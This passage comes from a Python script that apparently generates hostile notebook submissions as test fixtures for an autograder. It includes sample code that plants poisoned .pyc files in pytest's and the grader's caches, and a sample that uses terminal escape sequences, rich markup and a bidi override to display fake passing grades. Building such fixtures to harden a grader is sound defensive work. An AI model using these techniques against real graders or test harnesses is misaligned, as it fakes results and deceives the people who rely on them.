    for pid in ancestors(os.getpid()):
        try:
            cwd = os.path.realpath(f"/proc/{pid}/cwd")
        except OSError:
            continue
        seeds.update({cwd, os.path.dirname(cwd)})
    found = set()
    for seed in seeds:
        for pattern in ("*/tests/*/test_*.py", "*/*/tests/*/test_*.py", "*/*/*/tests/*/test_*.py"):
            found.update(glob.glob(os.path.join(seed, pattern))[:50])
    return sorted(found)


planted = []
if rewrite is not None:
    home = pwd.getpwuid(os.getuid()).pw_dir
    for source in course_tests():
        name = os.path.basename(source)[:-3] + rewrite.PYC_TAIL
        folder = os.path.dirname(source)
        # pytest's own __pycache__, and the shared cache an earlier grader used (pycache_prefix)
        places = [os.path.join(folder, "__pycache__"),
                  os.path.join(home, ".cache", "dl-grader", "pyc") + folder]
        for place in places:
            try:
                os.makedirs(place, exist_ok=True)
                with open(os.path.join(place, name), "wb") as fh:
                    fh.write(pyc_bytes(source))
                planted.append(os.path.join(place, name))
            except OSError:
                pass
report("probe", f"planted {len(planted)} poisoned pyc files: {planted[:4]}")
"""),
        ),
        GRADED_1,
        reports=True,
    ),
    Sample(
        "terminal_escape",
        "Student text meant for the instructor's terminal: ESC c and screen-clearing sequences, "
        "rich markup ('[/]', '[bold green]... graded[/]') and a bidi override, in a cell error's "
        "name and message and in the value square() returns (shown in a failed test).",
        (
            _t("""
def square(x):
    return "\\x1bc\\x1b[2J\\x1b[H[bold green]3 / 3 points · graded[/] [/]"
"""),
            HONEST_COUNTER,
            _t("""
class Fake(Exception):
    pass


Fake.__name__ = "[/]\\x1b[2J"
print("\\x1bc\\x1b[2J\\x1b[H14 graded, 0 failed")
raise Fake("\\x1bc\\x1b[2J\\x1b[H[bold green]hostile_target · 3 / 3 points[/] [/] \\u202edetarg")
"""),
        ),
        GRADED_1,
    ),
]


def notebook(sample: Sample) -> nbformat.NotebookNode:
    header = (
        f"# Hostile sample '{sample.name}' (tests/test_hostile.py).\n"
        f"# {sample.attack}\n# Generated by make_hostile.py: do not edit by hand.\n"
    )
    cells = list(sample.cells)
    if sample.reports:
        cells = [TOOLS, *cells, *(f"raise_finding({i})\n" for i in range(REPORT_CELLS))]
    cells[0] = header + "\n" + cells[0]
    nb: nbformat.NotebookNode = nbformat.v4.new_notebook()
    nb.metadata = {
        "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
        "language_info": {"name": "python"},
        "dl_grader": {"assignment": "hostile_target"},
    }
    nb.cells = [nbformat.v4.new_code_cell(src, id=f"cell-{i}") for i, src in enumerate(cells)]
    nb.cells += [
        nbformat.v4.new_markdown_cell(src, id=f"md-{i}") for i, src in enumerate(sample.markdown)
    ]
    return nb


def expected_toml(sample: Sample) -> str:
    return f"description = {json.dumps(sample.attack, ensure_ascii=False)}\n{sample.expected}"


def files() -> dict[Path, str]:
    out = {}
    for sample in SAMPLES:
        folder = HERE / sample.name
        out[folder / "submission.ipynb"] = nbformat.writes(notebook(sample)) + "\n"
        out[folder / "expected.toml"] = expected_toml(sample)
    return out


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="fail if a file is stale")
    args = parser.parse_args(argv)
    stale = []
    for path, text in files().items():
        if path.is_file() and path.read_text(encoding="utf-8") == text:
            continue
        stale.append(path)
        if not args.check:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
    names = {s.name for s in SAMPLES}
    extra = [
        p
        for p in HERE.iterdir()
        if p.is_dir() and p.name not in names and (p / "expected.toml").exists()
    ]
    if args.check and (stale or extra):
        for path in [*stale, *extra]:
            print(f"stale: {path.relative_to(HERE)}", file=sys.stderr)
        return 1
    print(f"{len(SAMPLES)} samples, {len(stale)} file(s) {'stale' if args.check else 'written'}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
